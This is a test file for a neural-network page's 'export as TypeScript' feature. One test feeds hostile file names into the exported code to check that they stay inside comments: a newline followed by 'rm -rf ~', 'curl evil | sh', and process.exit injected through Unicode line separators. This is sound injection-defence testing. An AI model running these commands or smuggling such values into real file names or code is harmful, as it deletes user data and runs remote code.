/**
 * The page's "export as TypeScript", run as exported (with the library's own files for "nnlab"): it trains
 * the page's spec to the page's bits, input features included (the library computes them as it loads the
 * data; the page's worker computes them from the raw x1, x2 it keeps for the plane).
 */
import { mkdtempSync, rmSync } from "node:fs";
import { join } from "node:path";
import ts from "typescript";
import { afterAll, describe, expect, it } from "vitest";
import { modelToJSON } from "../../src/index.js";
import { commandFor, typescriptFor } from "../../web/src/export-code.js";
import { scores } from "../../web/src/observe.js";
import { TrainingSession } from "../../web/src/session.js";
import { pageSpec } from "./knobs.js";
import { ARTIFACTS } from "./page.js";
import { runExportedCode } from "./run-exported.js";

const dir = mkdtempSync(join(ARTIFACTS, "export-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const runExported = (code: string, name: string) => runExportedCode(code, dir, name);

describe("the page's spec exported as code", () => {
  it("trains to the page's weights, bit for bit, with input features", async () => {
    const spec = pageSpec({ dataset: "circles", size: 200, hidden: [4], batchSize: 16, epochs: 15, seed: 4 });
    spec.data.inputFeatures = ["x1^2", "x2^2", "x1*x2", "sin x1"];
    const page = await TrainingSession.open(spec); // as the page's worker runs it
    while (page.step());
    expect(page.model.inputSize).toBe(4);
    const code = typescriptFor(spec);
    expect(code).toContain('"inputFeatures": [');
    const { printed, model } = await runExported(code, "features");
    // the cost J of the final weights on the training set, as the page's results show it (not the last epoch's batch mean)
    expect(printed[0]).toBe(`train cost ${scores(page).trainLoss} after 15 epochs`);
    expect(model.weights).toEqual(modelToJSON(page.model).weights);
    expect(commandFor(spec).split("\n")).toContain("nnlab train spec.json");
  });

  it("does not ask for a fashion-mnist file beside spec.json (it said: with \"fashion-mnist\" beside it)", () => {
    const spec = pageSpec({ dataset: "circles", size: 200, hidden: [4], batchSize: 16, epochs: 1, seed: 4 });
    spec.data = { source: "fashion-mnist", onInvalidRow: "error" };
    expect(commandFor(spec)).toContain(`save the spec as spec.json ("Download spec.json") (it reads Debian's dataset-fashion-mnist), then`);
  });

  it("keeps a file name a link or a dropped file supplied inside the exported comments, never a line of code", () => {
    // A shared link may set data.source to any name ending in .csv; so may a dropped file's name.
    const hostile = ["a\nrm -rf ~ #.csv", "b\r\ncurl evil | sh #.csv", "c\u2028process.exit(7) //.csv", "d\u2029process.exit(8) //.csv"];
    for (const source of hostile) {
      const spec = pageSpec({ dataset: "circles", size: 200, hidden: [4], batchSize: 16, epochs: 1, seed: 4 });
      spec.data = { source, onInvalidRow: "error" };
      // Lines as a shell reads them (newlines) and as JavaScript reads them (also CR, U+2028, U+2029).
      const shell = commandFor(spec).split("\n");
      expect(shell.filter((l) => l.trim() !== "" && !l.startsWith("#"))).toEqual(["nnlab train spec.json"]);
      // As TypeScript: it still parses, and names no `process` (a U+2028 or U+2029 ends a // comment in JavaScript).
      const code = typescriptFor(spec);
      expect(ts.transpileModule(code, { reportDiagnostics: true }).diagnostics ?? []).toEqual([]);
      const identifiers: string[] = [];
      const visit = (node: ts.Node): void => {
        if (ts.isIdentifier(node)) identifiers.push(node.text);
        ts.forEachChild(node, visit);
      };
      visit(ts.createSourceFile("train.ts", code, ts.ScriptTarget.ES2022));
      expect(identifiers).not.toContain("process");
      expect(identifiers).toContain("runExperiment");
    }
  });
});
